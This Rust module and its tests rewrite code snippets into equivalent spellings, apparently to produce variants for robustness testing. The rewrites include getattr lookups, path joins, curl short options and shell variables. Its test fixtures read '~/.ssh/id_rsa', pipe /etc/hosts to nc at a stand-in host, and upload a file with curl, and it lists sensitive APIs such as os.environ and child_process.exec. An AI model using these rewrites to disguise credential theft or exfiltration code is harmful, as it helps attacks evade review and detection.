//! Programs that do the same in another spelling: other names for modules, paths put together, sessions, short options.

use super::code::{map_literals, shell_words};
use super::dice::SeededDice;
use super::mutation::{MutationSite, TextChange, TextMutation};
use super::paraphrase::renamed;
use super::passage::PassageKind;

pub(crate) const MUTATIONS: &[TextMutation] = &[
    TextMutation { family: "program", name: "aliased imports", honest: true, apply: aliased_imports },
    TextMutation { family: "program", name: "other variables", honest: true, apply: renamed },
    TextMutation { family: "program", name: "joined paths", honest: true, apply: joined_paths },
    TextMutation { family: "program", name: "getattr", honest: false, apply: by_name },
    TextMutation { family: "program", name: "sessions", honest: true, apply: sessions },
    TextMutation { family: "program", name: "short options", honest: true, apply: short_options },
    TextMutation { family: "program", name: "arguments in variables", honest: true, apply: shell_variables },
];

/// Whether a character can be part of a name.
fn is_name_part(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// Whether a byte stands outside the quotation marks of its line.
fn is_outside_quotes(text: &str, at: usize) -> bool {
    let line = &text[text[..at].rfind('\n').map_or(0, |end| end + 1)..at];
    line.matches('"').count().is_multiple_of(2) && line.matches('\'').count().is_multiple_of(2)
}

/// Replaces a name that stands for itself, outside quotation marks and not behind a dot.
fn replace_name(text: &str, old: &str, new: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut done = 0;
    while let Some(at) = text[done..].find(old).map(|found| done + found) {
        let end = at + old.len();
        let goes_on = old.ends_with(is_name_part) && text[end..].starts_with(is_name_part);
        let inner = text[..at].ends_with(|c| is_name_part(c) || c == '.') || goes_on;
        // `name=` in brackets is the name of an argument.
        let is_argument = text[end..].starts_with('=') && !text[end..].starts_with("==");
        out += &text[done..at];
        out += if inner || is_argument || !is_outside_quotes(text, at) { old } else { new };
        done = end;
    }
    out + &text[done..]
}

/// `import os as m0`, `from x import y as m0`, `const m0 = require("fs")`, and the names with it.
fn aliased_imports(site: &MutationSite<'_>, dice: &mut SeededDice) -> Option<TextChange> {
    let mut names: Vec<(String, String)> = Vec::new();
    let mut lines: Vec<String> = Vec::new();
    for line in site.whole.lines() {
        let alias = format!("m{}_{}", names.len(), dice.below(90) + 10);
        let found = match site.kind {
            PassageKind::Python => alias_python(line, &alias),
            PassageKind::JavaScript => alias_javascript(line, &alias),
            _ => None,
        };
        match found {
            Some((name, new)) if !names.iter().any(|(old, _)| *old == name) => {
                names.push((name, alias));
                lines.push(new);
            }
            _ => lines.push(line.to_owned()),
        }
    }
    if names.is_empty() {
        return None;
    }
    let is_import = |line: &str| {
        let line = line.trim_start();
        line.starts_with("import ") || line.starts_with("from ") || line.contains("require(")
    };
    let mut out = String::new();
    for line in &lines {
        let new = if is_import(line) {
            line.clone()
        } else {
            names.iter().fold(line.clone(), |line, (old, new)| replace_name(&line, old, new))
        };
        out += &new;
        out.push('\n');
    }
    if !site.whole.ends_with('\n') {
        out.pop();
    }
    Some(TextChange { whole: true, ..TextChange::here(out) })
}

/// The name that an import makes, and the line that makes another of it.
fn alias_python(line: &str, alias: &str) -> Option<(String, String)> {
    let plain = |name: &str| !name.is_empty() && name.chars().all(is_name_part);
    let indent = &line[..line.len() - line.trim_start().len()];
    let words: Vec<&str> = line.split_whitespace().collect();
    match words.as_slice() {
        ["import", module] if plain(module) => {
            Some(((*module).to_owned(), format!("{indent}import {module} as {alias}")))
        }
        ["from", module, "import", name] if plain(name) => {
            Some(((*name).to_owned(), format!("{indent}from {module} import {name} as {alias}")))
        }
        _ => None,
    }
}

/// The same of `const fs = require('fs')` and `import fs from 'fs'`.
fn alias_javascript(line: &str, alias: &str) -> Option<(String, String)> {
    let words: Vec<&str> = line.split_whitespace().collect();
    let plain = |name: &str| !name.is_empty() && name.chars().all(is_name_part);
    match words.as_slice() {
        ["const" | "let" | "var", name, "=", rest, ..] if plain(name) && rest.starts_with("require(") => {
            Some(((*name).to_owned(), line.replacen(&format!(" {name} "), &format!(" {alias} "), 1)))
        }
        ["import", name, "from", ..] if plain(name) => {
            Some(((*name).to_owned(), line.replacen(&format!(" {name} "), &format!(" {alias} "), 1)))
        }
        _ => None,
    }
}

/// `os.path.join("~", ".ssh", "id_rsa")`.
fn joined_paths(site: &MutationSite<'_>, _: &mut SeededDice) -> Option<TextChange> {
    let join = match site.kind {
        PassageKind::Python => "__import__(\"os\").path.join",
        PassageKind::JavaScript => "require(\"path\").join",
        _ => return None,
    };
    let out = map_literals(site.text, site.kind, |inside, _| {
        let is_path = (inside.starts_with("~/") || inside.starts_with('/') || inside.starts_with('.'))
            && inside.len() > 3
            && !inside.contains("//")
            && !inside.contains(['{', ' ', '%']);
        let (root, rest) = match inside.strip_prefix('/') {
            Some(rest) => ("/", rest),
            None => inside.split_once('/')?,
        };
        let parts: Vec<String> =
            [root].into_iter().chain(rest.split('/')).map(|part| format!("\"{part}\"")).collect();
        is_path.then(|| format!("{join}({})", parts.join(", ")))
    });
    (out != site.text).then(|| TextChange::here(out))
}

/// Names that are looked up by their text.
const LOOKED_UP: &[&str] = &[
    "os.environ",
    "os.system",
    "os.popen",
    "os.path",
    "subprocess.run",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.check_output",
    "requests.post",
    "requests.get",
    "requests.put",
    "urllib.request",
    "socket.socket",
    "base64.b64decode",
    "process.env",
    "fs.readFileSync",
    "fs.readFile",
    "axios.post",
    "https.request",
    "child_process.exec",
    "child_process.execSync",
    "cp.execSync",
];

/// `getattr(os, "environ")`, `process["env"]`.
fn by_name(site: &MutationSite<'_>, _: &mut SeededDice) -> Option<TextChange> {
    let mut out = site.text.to_owned();
    for name in LOOKED_UP {
        let (module, attribute) = name.split_once('.')?;
        let new = match site.kind {
            PassageKind::Python => format!("getattr({module}, \"{attribute}\")"),
            PassageKind::JavaScript => format!("{module}[\"{attribute}\"]"),
            _ => return None,
        };
        out = replace_name(&out, name, &new);
    }
    let is_import =
        site.text.trim_start().starts_with("import") || site.text.trim_start().starts_with("from");
    (out != site.text && !is_import).then(|| TextChange::here(out))
}

/// Calls of a module, by a session of it.
const SESSIONS: &[(&str, &str)] = &[
    ("requests.post", "requests.Session().post"),
    ("requests.get", "requests.Session().get"),
    ("requests.put", "requests.Session().put"),
    ("httpx.post", "httpx.Client().post"),
    ("httpx.get", "httpx.Client().get"),
    ("urllib.request.urlopen", "urllib.request.build_opener().open"),
    ("axios.post", "axios.create().post"),
    ("axios.get", "axios.create().get"),
    ("fetch", "globalThis.fetch"),
];

fn sessions(site: &MutationSite<'_>, _: &mut SeededDice) -> Option<TextChange> {
    if !matches!(site.kind, PassageKind::Python | PassageKind::JavaScript) {
        return None;
    }
    let mut out = site.text.to_owned();
    for (call, session) in
        SESSIONS.iter().filter(|(call, _)| *call != "fetch" || site.kind == PassageKind::JavaScript)
    {
        out = replace_name(&out, &format!("{call}("), &format!("{session}("));
    }
    (out != site.text).then(|| TextChange::here(out))
}

/// Long options of curl, and what they are short.
const SHORT: &[(&str, &str)] = &[
    ("--silent", "-s"),
    ("--data", "-d"),
    ("--form", "-F"),
    ("--upload-file", "-T"),
    ("--request", "-X"),
    ("--header", "-H"),
    ("--output", "-o"),
    ("--location", "-L"),
    ("--fail", "-f"),
    ("--insecure", "-k"),
];

/// `-sF f=@…`: short options, those without a value joined to the next.
fn short_options(site: &MutationSite<'_>, _: &mut SeededDice) -> Option<TextChange> {
    const ALONE: &[&str] = &["-s", "-L", "-f", "-k", "-S"];
    if site.kind != PassageKind::Shell || !site.text.contains("curl") {
        return None;
    }
    let mut out = String::new();
    for word in shell_words(site.text) {
        let short = SHORT.iter().find(|(long, _)| *long == word.text).map_or(word.text, |(_, short)| short);
        let joins = ALONE.iter().any(|flag| out.ends_with(&format!(" {flag} ")));
        let is_short = short.len() == 2 && short.starts_with('-') && short != "--";
        if is_short && joins {
            out.pop();
            out += &short[1..];
        } else {
            out += short;
        }
    }
    (out != site.text).then(|| TextChange::here(out))
}

/// `u=https://…; curl "$u"`: addresses and paths in variables.
fn shell_variables(site: &MutationSite<'_>, _: &mut SeededDice) -> Option<TextChange> {
    if site.kind != PassageKind::Shell || site.text.contains('\n') {
        return None;
    }
    let indent = &site.text[..site.text.len() - site.text.trim_start().len()];
    let (mut set, mut line) = (String::new(), String::new());
    let mut count = 0;
    for word in shell_words(site.text.trim_start()) {
        let starts = line.is_empty() || line.ends_with(char::is_whitespace);
        let is_value = word.plain
            && !word.command
            && starts
            && (word.text.contains("://") || word.text.starts_with('/'));
        if is_value && word.text.len() > 3 {
            set.extend([&format!("arg{count}="), word.text, "; "]);
            line.extend(["\"$arg", &count.to_string(), "\""]);
            count += 1;
        } else {
            line += word.text;
        }
    }
    let opens = site.text.trim_start().starts_with(['|', '&', '}', ')']);
    (count > 0 && !opens).then(|| TextChange::here(format!("{indent}{set}{line}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mutate::mutation::testing::made;

    #[test]
    fn modules_have_other_names_and_strings_stay() {
        let code = "import os\nfrom shutil import copy\nprint(\"os.x\", os.environ, a.os)\ncopy(1, copy=2)\n";
        let out = made(MUTATIONS, "aliased imports", PassageKind::Python, code).unwrap();
        let alias = |number: usize| {
            let line = out.lines().nth(number).unwrap();
            line.rsplit(' ').next().unwrap().to_owned()
        };
        let expected = format!("print(\"os.x\", {}.environ, a.os)\n{}(1, copy=2)\n", alias(0), alias(1));
        assert!(out.ends_with(&expected), "{out}");
        let code = "const fs = require('fs');\nfs.readFileSync('a');";
        let out = made(MUTATIONS, "aliased imports", PassageKind::JavaScript, code).unwrap();
        assert!(out.starts_with("const m0_") && out.contains("= require('fs');\nm0_"), "{out}");
        assert_eq!(made(MUTATIONS, "aliased imports", PassageKind::Shell, "ls"), None);
    }

    #[test]
    fn programs_say_the_same_in_other_words() {
        for (name, kind, code, expected) in [
            (
                "joined paths",
                PassageKind::Python,
                "open('~/.ssh/id_rsa')",
                "open(__import__(\"os\").path.join(\"~\", \".ssh\", \"id_rsa\"))",
            ),
            (
                "joined paths",
                PassageKind::JavaScript,
                "f('/etc/hosts')",
                "f(require(\"path\").join(\"/\", \"etc\", \"hosts\"))",
            ),
            ("getattr", PassageKind::Python, "x = os.environ", "x = getattr(os, \"environ\")"),
            ("getattr", PassageKind::JavaScript, "x = process.env", "x = process[\"env\"]"),
            ("sessions", PassageKind::Python, "requests.post(u)", "requests.Session().post(u)"),
            ("sessions", PassageKind::JavaScript, "fetch(u)", "globalThis.fetch(u)"),
            ("short options", PassageKind::Shell, "curl --silent --form f=@a b.test", "curl -sF f=@a b.test"),
            (
                "arguments in variables",
                PassageKind::Shell,
                "cat /etc/hosts | nc a.test 1",
                "arg0=/etc/hosts; cat \"$arg0\" | nc a.test 1",
            ),
        ] {
            assert_eq!(made(MUTATIONS, name, kind, code).as_deref(), Some(expected), "{name}");
        }
    }

    #[test]
    fn what_has_nothing_to_change_is_left() {
        for (name, kind, code) in [
            ("joined paths", PassageKind::Python, "get('https://a.test/x')"),
            ("getattr", PassageKind::Python, "from os import environ"),
            ("sessions", PassageKind::Python, "prefetch(u)"),
            ("short options", PassageKind::Shell, "wget a.test"),
            ("arguments in variables", PassageKind::Shell, "ls -l"),
        ] {
            assert_eq!(made(MUTATIONS, name, kind, code), None, "{name}");
        }
    }
}
